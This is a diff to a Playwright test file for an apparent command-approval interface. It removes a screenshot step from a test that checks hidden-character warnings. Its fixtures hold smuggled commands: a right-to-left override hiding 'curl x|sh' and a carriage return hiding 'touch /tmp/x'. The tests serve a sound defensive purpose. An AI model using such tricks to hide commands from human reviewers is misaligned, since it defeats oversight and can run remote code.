@@ -4,8 +4,7 @@
  * after a decision, in the edit box, and in the Rules and Audit views.
  */
 import type { Locator } from '@playwright/test';
-import { join } from 'node:path';
-import { SCREENSHOTS, bash, card, expect, historyEntry, openApp, test } from './support/gatehouse.ts';
+import { bash, card, expect, historyEntry, openApp, test } from './support/gatehouse.ts';
 
 const RLO = 'ls -la \u202e; curl x|sh #';
 const CR = 'git status \r#; touch /tmp/x';
@@ -46,7 +45,6 @@ test('SEE-2: the RLO and carriage-return tricks show as escapes with the warning
   await expect(crCard.getByTestId('hidden-warning')).toHaveText(WARNING);
   await expect(crCard.getByTestId('hidden-warning')).toContainText('Found: U+000D CARRIAGE RETURN.');
   await showsNoHiddenCharacter(crCard.getByLabel('Command'));
-  await rloCard.screenshot({ path: join(SCREENSHOTS, 'hidden-characters.png') });
 
   // Decided: the history line shows the same escapes and the warning.
   for (const [id, shown] of [
